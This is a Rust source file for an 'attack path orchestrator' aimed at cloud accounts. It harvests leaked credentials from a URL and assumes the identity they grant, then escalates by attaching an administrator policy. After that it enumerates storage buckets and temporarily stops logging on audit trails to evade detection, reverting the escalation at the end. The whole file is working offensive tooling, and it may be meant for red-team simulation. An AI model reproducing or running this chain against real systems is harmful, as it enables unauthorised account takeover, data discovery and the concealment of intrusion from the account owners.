//! Attack Path Orchestrator
//!
//! Sequences harvesting, identity assumption, escalation, enumeration and
//! audit suppression into one run, and guarantees the escalation is
//! reverted once mutation has begun.

use futures::FutureExt;
use std::panic::AssertUnwindSafe;
use std::sync::Arc;
use std::time::Duration;
use tracing::{error, info, info_span, warn, Instrument};
use uuid::Uuid;

use super::audit::AuditSuppression;
use super::enumerator::enumerate;
use super::escalation::{PrivilegeEscalation, ADMIN_POLICY_ARN};
use super::harvester::{harvest, LeakSource};
use super::providers::{ClientFactory, ScopedClients};
use super::types::{AssumedIdentity, AttackPathError, ReportDraft, WorkflowReport, WorkflowState};

/// Wait after escalation for the policy attachment to propagate
pub const PROPAGATION_DELAY: Duration = Duration::from_secs(8);

/// Time each trail stays suppressed before logging is restored
pub const SUPPRESSION_WINDOW: Duration = Duration::from_secs(5);

/// Fixed dwell periods of a run
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct WorkflowTiming {
    pub propagation_delay: Duration,
    pub suppression_window: Duration,
}

impl Default for WorkflowTiming {
    fn default() -> Self {
        Self {
            propagation_delay: PROPAGATION_DELAY,
            suppression_window: SUPPRESSION_WINDOW,
        }
    }
}

/// Per-run bookkeeping: current state plus the report being assembled
struct WorkflowRun {
    run_id: Uuid,
    state: WorkflowState,
    report: ReportDraft,
}

impl WorkflowRun {
    fn new(run_id: Uuid, leak_url: &str) -> Self {
        Self {
            run_id,
            state: WorkflowState::Idle,
            report: ReportDraft::new(leak_url),
        }
    }

    fn advance(&mut self, next: WorkflowState) {
        info!("Attack path {} -> {}", self.state, next);
        self.state = next;
    }

    fn fail(&mut self, err: &AttackPathError) {
        error!("Attack path aborted in state {}: {}", self.state, err);
        self.state = WorkflowState::Failed;
    }
}

/// Attack Path Orchestrator
///
/// Holds only immutable configuration; every run builds its own
/// [`ScopedClients`] and escalation state, so concurrent runs share nothing
/// mutable.
pub struct AttackPathOrchestrator {
    leak_source: Arc<dyn LeakSource>,
    clients: Arc<dyn ClientFactory>,
    leak_url: String,
    timing: WorkflowTiming,
}

impl AttackPathOrchestrator {
    pub fn new(
        leak_source: Arc<dyn LeakSource>,
        clients: Arc<dyn ClientFactory>,
        leak_url: impl Into<String>,
    ) -> Self {
        Self {
            leak_source,
            clients,
            leak_url: leak_url.into(),
            timing: WorkflowTiming::default(),
        }
    }

    pub fn with_timing(mut self, timing: WorkflowTiming) -> Self {
        self.timing = timing;
        self
    }

    pub fn leak_url(&self) -> &str {
        &self.leak_url
    }

    /// Run the full attack path against `region`
    ///
    /// Returns an error only for failures before any mutating call
    /// (harvest, client construction, identity). Everything after that
    /// degrades the report instead.
    pub async fn run_attack_path(
        &self,
        region: &str,
        trail_hint: Option<&str>,
    ) -> Result<WorkflowReport, AttackPathError> {
        let run_id = Uuid::new_v4();
        let span = info_span!("attack_path", %run_id, region);
        self.execute(run_id, region, trail_hint).instrument(span).await
    }

    async fn execute(
        &self,
        run_id: Uuid,
        region: &str,
        trail_hint: Option<&str>,
    ) -> Result<WorkflowReport, AttackPathError> {
        let mut run = WorkflowRun::new(run_id, &self.leak_url);
        info!("Generating malicious endpoint URL: {}", self.leak_url);

        // 1. Harvest leaked credentials
        let credentials = match harvest(self.leak_source.as_ref(), &self.leak_url).await {
            Ok(c) => c,
            Err(e) => {
                run.fail(&e);
                return Err(e);
            }
        };
        run.advance(WorkflowState::CredentialsAcquired);

        let clients = match self.clients.build(region, &credentials).await {
            Ok(c) => c,
            Err(e) => {
                let e = AttackPathError::from(e);
                run.fail(&e);
                return Err(e);
            }
        };
        drop(credentials);

        // 2. Resolve the assumed identity
        let identity = match assume_identity(&clients).await {
            Ok(identity) => identity,
            Err(e) => {
                run.fail(&e);
                return Err(e);
            }
        };
        info!("Assumed role {} ({})", identity.role_name, identity.arn);
        run.report.identity = Some(identity.clone());
        run.advance(WorkflowState::IdentityAssumed);

        // 3. Escalate; failure falls back to current privileges
        let mut escalation = PrivilegeEscalation::new(clients.iam.as_ref(), &identity.role_name);
        let escalate_privileges = match escalation.escalate().await {
            Ok(()) => format!("attaching: {}", ADMIN_POLICY_ARN),
            Err(e) => {
                run.report.warn(format!("privilege escalation failed: {}", e));
                format!(
                    "failed attaching: {} (continuing with current privileges)",
                    ADMIN_POLICY_ARN
                )
            }
        };
        run.report.escalate_privileges = escalate_privileges;
        run.advance(WorkflowState::PrivilegeEscalated);

        // 4. Propagation dwell
        info!("Waiting {:?} for privileges to propagate", self.timing.propagation_delay);
        tokio::time::sleep(self.timing.propagation_delay).await;

        // 5-6. Observation and evasion; nothing here may skip the revert
        let phase = AssertUnwindSafe(self.enumerate_and_evade(&clients, trail_hint, &mut run))
            .catch_unwind()
            .await;

        // 7. Compensate exactly once
        let escalation_state = escalation.revert().await;
        run.advance(WorkflowState::PrivilegeReverted);

        if let Err(panic) = phase {
            error!("Attack path phase panicked after revert was issued");
            std::panic::resume_unwind(panic);
        }

        // 8. Report
        run.advance(WorkflowState::Reported);
        let WorkflowRun { run_id, report, .. } = run;
        Ok(report.finalize(run_id, escalation_state))
    }

    async fn enumerate_and_evade(
        &self,
        clients: &ScopedClients,
        trail_hint: Option<&str>,
        run: &mut WorkflowRun,
    ) {
        match enumerate(clients.storage.as_ref()).await {
            Ok(buckets) => run.report.buckets = buckets,
            Err(e) => {
                warn!("Bucket enumeration failed: {}", e);
                run.report.warn(format!("bucket enumeration failed: {}", e));
            }
        }
        run.advance(WorkflowState::ResourcesEnumerated);

        let suppression = match AuditSuppression::discover(clients.audit.as_ref()).await {
            Ok(s) => s,
            Err(e) => {
                error!("Audit trail discovery failed in {}: {}", clients.region, e);
                run.report.warn(format!("audit trail discovery failed: {}", e));
                run.advance(WorkflowState::TrailsProcessed);
                return;
            }
        };

        // Sequential so each suppression window stays short and observable
        for trail_name in suppression.targets(trail_hint) {
            if !suppression.suppress(&trail_name).await {
                run.report
                    .warn(format!("logging suppression failed for trail '{}'", trail_name));
                continue;
            }

            tokio::time::sleep(self.timing.suppression_window).await;

            if suppression.restore(&trail_name).await {
                run.report.suppressed_trails.push(trail_name);
            } else {
                error!("Trail '{}' left with logging stopped", trail_name);
                run.report
                    .warn(format!("logging restore failed for trail '{}'", trail_name));
            }
        }
        run.advance(WorkflowState::TrailsProcessed);
    }
}

async fn assume_identity(clients: &ScopedClients) -> Result<AssumedIdentity, AttackPathError> {
    let arn = clients
        .identity
        .caller_arn()
        .await
        .map_err(|e| AttackPathError::Identity(e.to_string()))?;

    AssumedIdentity::from_arn(&arn)
}
